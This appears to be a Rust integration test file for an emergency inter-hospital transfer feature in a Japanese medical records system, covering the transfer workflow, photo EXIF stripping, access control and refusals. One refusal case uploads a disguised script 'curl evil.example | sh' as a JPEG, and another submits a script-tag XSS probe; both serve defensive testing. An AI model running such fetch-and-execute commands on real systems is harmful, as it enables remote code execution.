//! 救急搬送 through a real server, on both backends: a hospital opens a transfer with vital
//! signs, a note and a photo to another hospital, whose physicians are notified and invited
//! into the care team; the receiver accepts, sees the transfer, acknowledges with a
//! preparation note, marks the arrival and sends feedback the sender reads. Refusals: a
//! disguised file, a receiver that is not a hospital or is suspended, outsiders (404), the
//! sender acting as receiver (403), steps out of order — nothing stored half-way.

mod testkit;

use renkei_domain::audit::{AuditEntry, Outcome};
use renkei_domain::FacilityStatus;
use renkei_storage::fhir::FhirScope;
use testkit::{between, csrf, each_backend, TestApp};

async fn get(app: &TestApp, client: &reqwest::Client, path: &str) -> (u16, String) {
    let res = client.get(app.url(path)).send().await.unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

async fn post_form(
    app: &TestApp,
    client: &reqwest::Client,
    path: &str,
    form: &[(&str, String)],
) -> (u16, String, String) {
    let res = client.post(app.url(path)).form(form).send().await.unwrap();
    let status = res.status().as_u16();
    let location = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, location, res.text().await.unwrap())
}

async fn register_with_consent(app: &TestApp, doctor: &reqwest::Client) -> String {
    let token = csrf(app, doctor).await;
    let form = [
        ("csrf", token.clone()),
        ("local_id", "TR-1".to_string()),
        ("family_kanji", "北見".into()),
        ("given_kanji", "太郎".into()),
        ("family_kana", "きたみ".into()),
        ("given_kana", "たろう".into()),
        ("birth_date", "1950-02-03".into()),
        ("sex", "male".into()),
        ("postal_code", "090-0001".into()),
        ("address", "北海道北見市1-2-3".into()),
        ("phone", "0157-00-0000".into()),
        ("care_level", "none".into()),
    ];
    let (status, location, _) = post_form(app, doctor, "/patients/new", &form).await;
    assert_eq!(status, 303);
    let person = location
        .trim_start_matches("/patients/")
        .split('?')
        .next()
        .unwrap()
        .to_string();
    let form = [
        ("csrf", token),
        ("scope", "comprehensive".into()),
        ("form", "written".into()),
        ("signer", "patient".into()),
    ];
    let (status, _, _) =
        post_form(app, doctor, &format!("/patients/{person}/consent"), &form).await;
    assert_eq!(status, 303);
    person
}

async fn facility_by_code(app: &TestApp, code: &str) -> renkei_storage::Facility {
    app.store
        .search_facilities(&renkei_storage::FacilityQuery {
            text: Some(code.into()),
            limit: 5,
            ..Default::default()
        })
        .await
        .unwrap()
        .items
        .into_iter()
        .find(|f| f.code.as_deref() == Some(code))
        .unwrap()
}

/// A JPEG whose APP1 segment carries a GPS position.
fn jpeg_with_exif() -> Vec<u8> {
    fn segment(marker: u8, body: &[u8]) -> Vec<u8> {
        let mut s = vec![0xFF, marker];
        s.extend_from_slice(&((body.len() + 2) as u16).to_be_bytes());
        s.extend_from_slice(body);
        s
    }
    let mut j = vec![0xFF, 0xD8];
    j.extend(segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"));
    j.extend(segment(
        0xE1,
        b"Exif\0\0GPSLatitude 43.8030N GPSLongitude 143.8963E",
    ));
    j.extend(segment(0xDB, &[0u8; 65]));
    j.extend(segment(0xC0, &[8, 0, 1, 0, 1, 1, 1, 0x11, 0]));
    j.extend(segment(0xDA, &[1, 1, 0, 0, 63, 0]));
    j.extend_from_slice(&[0x12, 0x34, 0xFF, 0xD9]);
    j
}

fn eta_in_minutes(minutes: i64) -> String {
    let t = chrono::Utc::now() + chrono::Duration::minutes(minutes);
    t.with_timezone(&chrono::FixedOffset::east_opt(9 * 3600).unwrap())
        .format("%Y-%m-%dT%H:%M")
        .to_string()
}

/// Opens a transfer; returns (status, location, body).
async fn open_transfer(
    app: &TestApp,
    client: &reqwest::Client,
    person: &str,
    fields: &[(&str, String)],
    file: Option<(Vec<u8>, &str, &str)>,
) -> (u16, String, String) {
    let mut form = reqwest::multipart::Form::new().text("csrf", csrf(app, client).await);
    for (k, v) in fields {
        form = form.text(k.to_string(), v.clone());
    }
    if let Some((bytes, name, mime)) = file {
        form = form.part(
            "file",
            reqwest::multipart::Part::bytes(bytes)
                .file_name(name.to_string())
                .mime_str(mime)
                .unwrap(),
        );
    }
    let res = client
        .post(app.url(&format!("/patients/{person}/transfers")))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let location = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, location, res.text().await.unwrap())
}

/// Every stored row of these types (whoever wrote it).
async fn stored(app: &TestApp, types: &[&str]) -> usize {
    let mut n = 0;
    for t in types {
        n += app
            .store
            .fhir_search(
                &renkei_fhir::SearchQuery {
                    resource_type: t.to_string(),
                    ids: vec![],
                    criteria: vec![],
                    last_updated: vec![],
                    sort: vec![],
                    count: 1000,
                    offset: 0,
                    want_total: false,
                },
                &FhirScope::All,
            )
            .await
            .unwrap()
            .rows
            .len();
    }
    n
}

async fn transfer_notifications(app: &TestApp, login: &str) -> usize {
    let id = app.user_id(login).await;
    app.store
        .notifications()
        .notifications_of(&id, false, 100, 0)
        .await
        .unwrap()
        .iter()
        .filter(|n| n.kind == "transfer")
        .count()
}

fn fields(receiver: &str, eta: String) -> Vec<(&'static str, String)> {
    vec![
        ("receiver", receiver.to_string()),
        ("complaint", "右片麻痺・構音障害 発症30分".into()),
        ("eta", eta),
        ("means", "ambulance".into()),
        ("note", "抗凝固薬内服中（ワルファリン）".into()),
        ("systolic", "182".into()),
        ("diastolic", "96".into()),
        ("pulse", "88".into()),
        ("spo2", "95".into()),
    ]
}

const TYPES: [&str; 3] = ["Communication", "Observation", "Binary"];

#[tokio::test]
async fn refusals_store_nothing() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let person = register_with_consent(&app, &doctor).await;
        let other = facility_by_code(&app, "F00002").await;
        let care_office = facility_by_code(&app, "F00005").await;
        let before = stored(&app, &TYPES).await;

        // A script named .jpg.
        let (status, _, body) = open_transfer(
            &app,
            &doctor,
            &person,
            &fields(&other.id, eta_in_minutes(30)),
            Some((
                b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
                "ecg.jpg",
                "image/jpeg",
            )),
        )
        .await;
        assert_eq!(status, 400);
        let errors = between(&body, "id=\"transfer-errors\"", "</div>").unwrap();
        assert!(errors.contains("JPEG・PNG画像とPDFだけ"), "{errors}");

        // A facility that is not a hospital.
        let (status, _, body) = open_transfer(
            &app,
            &doctor,
            &person,
            &fields(&care_office.id, eta_in_minutes(30)),
            None,
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("搬送先には病院のみ選べます"));

        // A suspended hospital.
        app.store
            .set_facility_status(
                &other.id,
                FacilityStatus::Active,
                FacilityStatus::Suspended,
                Some("test"),
                renkei_domain::now_millis(),
                AuditEntry::new("facility.suspend", Outcome::Success),
            )
            .await
            .unwrap();
        let (status, _, body) = open_transfer(
            &app,
            &doctor,
            &person,
            &fields(&other.id, eta_in_minutes(30)),
            None,
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("停止中"), "suspended receiver refused");
        app.store
            .set_facility_status(
                &other.id,
                FacilityStatus::Suspended,
                FacilityStatus::Active,
                None,
                renkei_domain::now_millis(),
                AuditEntry::new("facility.reinstate", Outcome::Success),
            )
            .await
            .unwrap();

        // Out-of-range vital sign and an ETA days away, hostile text kept as text.
        let mut bad = fields(&other.id, eta_in_minutes(60 * 72));
        bad[5] = ("systolic", "999".into());
        bad[1] = ("complaint", "<script>alert(1)</script>".into());
        let (status, _, body) = open_transfer(&app, &doctor, &person, &bad, None).await;
        assert_eq!(status, 400);
        assert!(body.contains("到着予定は1時間前から24時間後"));
        assert!(!body.contains("<script>alert(1)</script>"));

        // Nothing stored, nobody notified, nobody invited.
        assert_eq!(stored(&app, &TYPES).await, before);
        assert_eq!(transfer_notifications(&app, "otherdoc").await, 0);
        assert!(app
            .store
            .invitations_for(&other.id)
            .await
            .unwrap()
            .is_empty());

        // A facility outside the team cannot open a transfer for the patient at all.
        let (otherdoc, _) = app.sign_in("otherdoc").await;
        let (status, _) = get(
            &app,
            &otherdoc,
            &format!("/patients/{person}/transfers/new"),
        )
        .await;
        assert_eq!(status, 404);
    })
    .await;
}

#[tokio::test]
async fn transfer_flow_from_request_to_feedback() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (otherdoc, _) = app.sign_in("otherdoc").await;
        let (paramedic, _) = app.sign_in("paramedic1").await;
        let person = register_with_consent(&app, &doctor).await;
        let other = facility_by_code(&app, "F00002").await;

        let (status, page) = get(&app, &doctor, &format!("/patients/{person}/transfers/new")).await;
        assert_eq!(status, 200);
        assert!(page.contains(&format!("<option value=\"{}\"", other.id)));
        assert!(
            !page.contains(&format!("<option value=\"{}\"", app.facility_id)),
            "not to itself"
        );

        let before = stored(&app, &TYPES).await;
        let (status, location, _) = open_transfer(
            &app,
            &doctor,
            &person,
            &fields(&other.id, eta_in_minutes(40)),
            Some((jpeg_with_exif(), "ECG.JPG", "image/jpeg")),
        )
        .await;
        assert_eq!(status, 303, "{location}");
        let id = location
            .trim_start_matches("/transfers/")
            .split('?')
            .next()
            .unwrap()
            .to_string();
        // Request, blood pressure panel, pulse, SpO2, photo and the Provenance's kin.
        assert_eq!(stored(&app, &TYPES).await, before + 5);
        // The receiving hospital's physician heard of it; it is invited to the team, by the
        // request's own transaction, with its audit record naming the transfer.
        assert_eq!(transfer_notifications(&app, "otherdoc").await, 1);
        assert_eq!(transfer_notifications(&app, "doctor1").await, 0);
        let invitations = app.store.invitations_for(&other.id).await.unwrap();
        assert_eq!(invitations.len(), 1);
        assert!(
            invitations[0].0.note.contains("右片麻痺"),
            "{}",
            invitations[0].0.note
        );
        let invite_audits = app
            .store
            .search_audit(&renkei_storage::AuditQuery {
                action_prefix: Some("team.invite".into()),
                patient_id: Some(person.clone()),
                limit: 10,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(invite_audits.len(), 1);
        let detail: serde_json::Value =
            serde_json::from_str(&invite_audits[0].entry.detail).unwrap();
        assert_eq!(detail["transfer"], id.as_str());

        // Before accepting, the receiver (like any outsider) gets 404 for the transfer.
        for client in [&otherdoc, &paramedic] {
            let (status, _) = get(&app, client, &format!("/transfers/{id}")).await;
            assert_eq!(status, 404);
        }
        let (status, list) = get(&app, &otherdoc, "/transfers").await;
        assert_eq!(status, 200);
        let pending = between(&list, "id=\"transfers-pending\"", "</section>").unwrap();
        assert!(pending.contains("北見 太郎"));
        assert!(pending.contains("右片麻痺"));
        assert!(pending.contains("救急車"));

        // The sender sees its outgoing transfer; it cannot act as the receiver.
        let (status, list) = get(&app, &doctor, "/transfers").await;
        assert_eq!(status, 200);
        let outgoing = between(&list, "id=\"transfers-outgoing\"", "</section>").unwrap();
        assert!(outgoing.contains(&format!("/transfers/{id}")));
        assert!(outgoing.contains("依頼中"));
        let token = csrf(&app, &doctor).await;
        let (status, _, _) = post_form(
            &app,
            &doctor,
            &format!("/transfers/{id}/acknowledge"),
            &[("csrf", token), ("note", "x".into())],
        )
        .await;
        assert_eq!(status, 403);

        // The receiver accepts the invitation and sees everything sent.
        let token = csrf(&app, &otherdoc).await;
        let (status, _, _) = post_form(
            &app,
            &otherdoc,
            &format!("/invitations/{person}"),
            &[("csrf", token.clone()), ("answer", "accept".into())],
        )
        .await;
        assert_eq!(status, 303);
        let (status, page) = get(&app, &otherdoc, &format!("/transfers/{id}")).await;
        assert_eq!(status, 200);
        assert!(page.contains("右片麻痺・構音障害"));
        assert!(page.contains("ワルファリン"));
        assert!(page.contains("182/96"), "blood pressure shared");
        assert!(page.contains("id=\"acknowledge-form\""));
        let (status, list) = get(&app, &otherdoc, "/transfers").await;
        assert_eq!(status, 200);
        let incoming = between(&list, "id=\"transfers-incoming\"", "</section>").unwrap();
        assert!(incoming.contains(&format!("/transfers/{id}")));
        // The photo, without its location.
        let res = otherdoc
            .get(app.url(&format!("/transfers/{id}/photo")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "image/jpeg");
        let bytes = res.bytes().await.unwrap();
        assert!(!bytes.windows(11).any(|w| w == b"GPSLatitude"));
        // A paramedic outside the team still gets 404.
        let (status, _) = get(&app, &paramedic, &format!("/transfers/{id}/photo")).await;
        assert_eq!(status, 404);

        // Out of order: feedback before acknowledgement.
        let (status, _, body) = post_form(
            &app,
            &otherdoc,
            &format!("/transfers/{id}/arrived"),
            &[("csrf", token.clone())],
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("この操作はできません"));

        let (status, _, _) = post_form(
            &app,
            &otherdoc,
            &format!("/transfers/{id}/acknowledge"),
            &[
                ("csrf", token.clone()),
                ("note", "SCU準備済み。CT室直行。".into()),
            ],
        )
        .await;
        assert_eq!(status, 303);
        assert_eq!(transfer_notifications(&app, "doctor1").await, 1);
        let (_, page) = get(&app, &doctor, &format!("/transfers/{id}")).await;
        assert!(page.contains("受入れ了解"));
        assert!(page.contains("SCU準備済み"));
        // Acknowledging twice is refused.
        let (status, _, _) = post_form(
            &app,
            &otherdoc,
            &format!("/transfers/{id}/acknowledge"),
            &[("csrf", token.clone()), ("note", "again".into())],
        )
        .await;
        assert_eq!(status, 400);

        let (status, _, _) = post_form(
            &app,
            &otherdoc,
            &format!("/transfers/{id}/arrived"),
            &[("csrf", token.clone())],
        )
        .await;
        assert_eq!(status, 303);

        // Feedback needs a diagnosis and an outcome.
        let (status, _, body) = post_form(
            &app,
            &otherdoc,
            &format!("/transfers/{id}/feedback"),
            &[
                ("csrf", token.clone()),
                ("diagnosis", "".into()),
                ("treatment", "t-PA".into()),
                ("outcome", "bogus".into()),
            ],
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("転帰を選んでください"));
        let before_feedback = stored(&app, &["Communication"]).await;
        let (status, _, _) = post_form(
            &app,
            &otherdoc,
            &format!("/transfers/{id}/feedback"),
            &[
                ("csrf", token.clone()),
                ("diagnosis", "左中大脳動脈閉塞".into()),
                ("treatment", "t-PA静注後、血栓回収術".into()),
                ("outcome", "admitted".into()),
                ("message", "迅速な情報共有ありがとうございました。".into()),
            ],
        )
        .await;
        assert_eq!(status, 303);
        assert_eq!(stored(&app, &["Communication"]).await, before_feedback + 1);
        assert_eq!(transfer_notifications(&app, "doctor1").await, 2);

        let (status, page) = get(&app, &doctor, &format!("/transfers/{id}")).await;
        assert_eq!(status, 200);
        let feedback = between(&page, "id=\"transfer-feedback\"", "</section>").unwrap();
        assert!(feedback.contains("左中大脳動脈閉塞"));
        assert!(feedback.contains("入院"));
        assert!(feedback.contains("迅速な情報共有"));
        assert!(page.contains("結果返信済み"));
        assert!(
            !page.contains("id=\"feedback-form\""),
            "the sender has no forms"
        );
        // The request and its steps are on the patient's timeline too.
        let (status, timeline) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert_eq!(status, 200);
        assert!(timeline.contains("抗凝固薬内服中"));
        assert!(timeline.contains("SCU準備済み"));
        // Every view was audited naming the patient.
        let audit = app
            .store
            .search_audit(&renkei_storage::AuditQuery {
                patient_id: Some(person.clone()),
                limit: 500,
                ..Default::default()
            })
            .await
            .unwrap();
        assert!(audit
            .iter()
            .any(|e| e.entry.detail.contains("page:/transfers/{id}")));
    })
    .await;
}
